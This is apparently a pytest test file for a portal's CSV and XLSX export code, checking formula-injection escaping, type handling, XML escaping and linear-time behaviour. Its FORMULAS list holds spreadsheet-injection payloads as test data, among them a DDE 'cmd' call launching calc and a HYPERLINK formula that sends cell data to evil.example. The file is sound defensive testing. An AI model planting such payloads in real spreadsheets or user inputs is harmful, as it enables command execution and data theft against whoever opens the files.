"""CSV and XLSX files: texts, numbers and dates are kept, and no text becomes a formula."""

import csv
import io
import re
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from core.portal.spreadsheets import MAX_CELL_LENGTH, Cell, write_csv, write_xlsx

BERLIN = ZoneInfo("Europe/Berlin")

# Without escaping, each would be a formula, at least where a program splits at semicolons.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\tharmless",
    "\rharmless",
    "  =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "“=1+1”",
    "' \" =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "\u22121+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@import",
    "+49 30 123456",
    "harmless;=1+1",
    'harmless"; =1+1;"',
    "harmless\n=1+1",
    "harmless\r\n@SUM(1,1)",
    "harmless\t+1+1",
    "\x00=1+1",
    "\x01\x02=1+1",
]

HARMLESS = [
    "Knots That Hold",
    "1 + 1 = 2",
    "jane@example.com",
    "well-known",
    "a, -b",
    'O\'Hara says "no"',
    "Zoë, Ünal, 李, 🎓",
    "two\nlines",
    "<r><t>x</t></r>",
    "&amp; <b>",
    "#N/A",
    "#REF!",
    "TRUE",
    "0123",
    "1e5",
    "_x003D_1+1",
]


def read_csv(rows: Sequence[Sequence[Cell]], *, delimiter: str = ",") -> list[list[str]]:
    written = b"".join(write_csv(["A"], [rows])).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))[1:]


def read_xlsx(rows: Sequence[Sequence[Cell]], header: Sequence[str] = ("A",)) -> list[list[Any]]:
    with write_xlsx("List", header, [rows]) as file:
        return [list(row) for row in load_workbook(file)["List"].iter_rows()]


def looks_like_formula(cell: str) -> bool:
    bare = re.sub(r"^[\s\"“”\u200b\ufeff]+", "", cell)
    return cell.startswith(("\t", "\r")) or bare[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20\u2212")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_escaped_in_csv(text: str) -> None:
    [[cell]] = read_csv([[text]])

    assert "'" in cell
    assert not looks_like_formula(cell)
    # Only invisible characters are lost.
    assert cell.replace("'", "") == re.sub(r"[\x00-\x02]", "", text).replace("'", "")


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_formulas_are_escaped_for_other_separators_too(text: str, delimiter: str) -> None:
    for row in read_csv([["first", text, "last"]], delimiter=delimiter):
        assert not any(looks_like_formula(cell) for cell in row), row


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_all_texts_are_strings_in_xlsx(text: str) -> None:
    rows = read_xlsx([[text, "next"]])

    assert [cell.data_type for cell in rows[1]] == ["s", "s"]
    expected = re.sub(r"[\x00-\x02]", "", text).replace("\r\n", "\n").replace("\r", "\n")
    assert decode_escapes(rows[1][0].value) == expected
    assert rows[1][1].value == "next"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_unchanged_in_csv(text: str) -> None:
    assert read_csv([[text]]) == [[text]]


@pytest.mark.parametrize("number", [0, 7, -7, 10**14, 1.5, -0.25, Decimal("-3.50")])
def test_numbers_stay_numbers(number: Any) -> None:
    assert read_csv([[number]]) == [[str(number)]]
    cell = read_xlsx([[number]])[1][0]
    assert (cell.data_type, cell.value) == ("n", number)


@pytest.mark.parametrize("number", [10**15, -(10**18), float("inf"), float("nan"), Decimal("NaN")])
def test_inexact_numbers_are_strings_in_xlsx(number: Any) -> None:
    cell = read_xlsx([[number]])[1][0]
    assert (cell.data_type, cell.value) == ("s", str(number))


def test_an_instant_is_iso_8601_in_csv_and_a_local_date_in_xlsx() -> None:
    instant = datetime(2024, 1, 10, 10, 0, 0, 250000, tzinfo=UTC).astimezone(BERLIN)

    assert read_csv([[instant, date(2024, 1, 10)]]) == [["2024-01-10T11:00:00+01:00", "2024-01-10"]]
    cells = read_xlsx([[instant, date(2024, 1, 10)]])[1]
    assert [cell.value.isoformat() for cell in cells] == ["2024-01-10T11:00:00", "2024-01-10T00:00:00"]
    assert [cell.is_date for cell in cells] == [True, True]


def test_dates_before_march_1900_are_strings_in_xlsx() -> None:
    cells = read_xlsx([[datetime(1899, 1, 2, 3, tzinfo=UTC), date(1900, 2, 28)]])[1]
    assert [cell.value for cell in cells] == ["1899-01-02T03:00:00+00:00", "1900-02-28"]


def test_none_is_an_empty_cell() -> None:
    assert read_csv([[None, "x"]]) == [["", "x"]]
    assert [cell.value for cell in read_xlsx([[None, "x"]])[1]] == [None, "x"]


@pytest.mark.parametrize("text", ["a\x00b", "a\x0bb", "a\x1fb", "a\ufffeb", "a\uffffb", "a\ud800b"])
def test_invalid_characters_are_removed(text: str) -> None:
    assert read_csv([[text]]) == [["ab"]]
    assert read_xlsx([[text]])[1][0].value == "ab"


def test_too_long_texts_are_cut_with_an_ellipsis() -> None:
    fits, does_not = "x" * MAX_CELL_LENGTH, "x" * (MAX_CELL_LENGTH + 1)

    cells = read_xlsx([[fits, does_not]])[1]

    assert cells[0].value == fits
    assert cells[1].value == "x" * (MAX_CELL_LENGTH - 1) + "…"


def test_headers_are_escaped_too() -> None:
    written = b"".join(write_csv(["=1+1"], [])).decode("utf-8-sig")
    [[cell]] = read_xlsx([], header=["=1+1"])

    assert written == "'=1+1\r\n"
    assert (cell.data_type, cell.value, cell.font.b) == ("s", "=1+1", True)


def test_csv_begins_with_a_byte_order_mark_and_is_written_in_chunks() -> None:
    parts = list(write_csv(["A"], [[["1"], ["2"]], [["3"]], [["4"]]]))

    assert parts == ["\ufeffA\r\n1\r\n2\r\n".encode(), b"3\r\n", b"4\r\n"]


def test_xml_in_a_text_is_escaped() -> None:
    injected = '<r><t>x</t></r></is></c><c r="B1"><f>1+1</f></c><c r="C1" t="inlineStr"><is><r><t>y</t></r>'

    with write_xlsx("List", ["A"], [[[injected]]]) as file:
        sheet = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml").decode()

    assert "<f>" not in sheet
    assert read_xlsx([[injected]])[1][0].value == injected


def test_invalid_sheet_titles_are_corrected() -> None:
    with write_xlsx("What [is]: this? " * 5, ["A"], []) as file:
        [name] = load_workbook(file).sheetnames

    assert len(name) <= 31
    assert not set(name) & set("[]:*?/\\")


def decode_escapes(value: str) -> str:
    """Decode the escapes of XLSX, as a program does."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), value)


@pytest.mark.parametrize("text", ["\n" * 300_000, " \t" * 150_000, ";\n'" * 100_000, "=1+1\n" * 60_000], ids=range(4))
def test_escaping_takes_linear_time(text: str) -> None:
    """In quadratic time, this would take hours."""
    [_, row] = b"".join(write_csv(["Text"], [[[text]]])).decode("utf-8-sig").split("\r\n", 1)
    assert len(row) >= len(text)

    with write_xlsx("Long", ["Text"], [[[text]]]) as file:
        [(head,), (cell,)] = load_workbook(file).active.iter_rows(values_only=True)
    assert (head, len(cell)) == ("Text", MAX_CELL_LENGTH)
